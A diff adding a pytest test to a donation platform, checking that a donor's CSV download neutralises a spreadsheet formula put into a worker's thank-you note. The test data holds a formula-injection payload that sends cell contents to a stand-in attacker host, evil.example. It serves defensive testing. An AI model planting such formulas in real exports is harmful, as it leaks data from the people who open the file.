@@ -386,3 +386,29 @@ def test_an_untrusted_peer_cannot_choose_the_address_that_is_logged(app, session
     assert _reveal_from(session, app, "192.0.2.50", "203.0.113.9") == "192.0.2.50"
     monkeypatch.setattr(get_settings(), "trusted_proxies", "")
     assert _reveal_from(session, app, "10.0.0.3", "203.0.113.9") == "10.0.0.3"
+
+
+def test_the_donors_download_neutralises_a_formula_in_a_thank_you_note(session, client, login):
+    from tests.zhuanjie.test_publication import publish_need
+    from zhuanjie.donors import cache
+
+    cache.clear()
+    worker, _need, pub = publish_need(session, client, login)
+    donor = make_user(session, "donor", display_name="爱心人士王先生")
+    client.post("/logout")
+    login(donor.username)
+    pledge = client.post("/api/v1/pledges", json={"publication_id": pub["id"], "kind": "money",
+                                                  "amount": "500"}).json()
+    client.post("/logout")
+    login(worker.username)
+    assert client.post(f"/pledges/{pledge['id']}/confirm",
+                       follow_redirects=False).status_code == 303
+    note = '=HYPERLINK("http://evil.example/?"&A1,"谢谢您")'
+    assert client.post(f"/pledges/{pledge['id']}/deliver", data={"thank_you_note": note},
+                       follow_redirects=False).status_code == 303
+    client.post("/logout")
+    login(donor.username)
+    body = client.get("/donor/pledges.csv").content.decode("utf-8").lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(body)))
+    assert dict(zip(rows[0], rows[1], strict=True))["感谢留言"] == "'" + note
+    cache.clear()
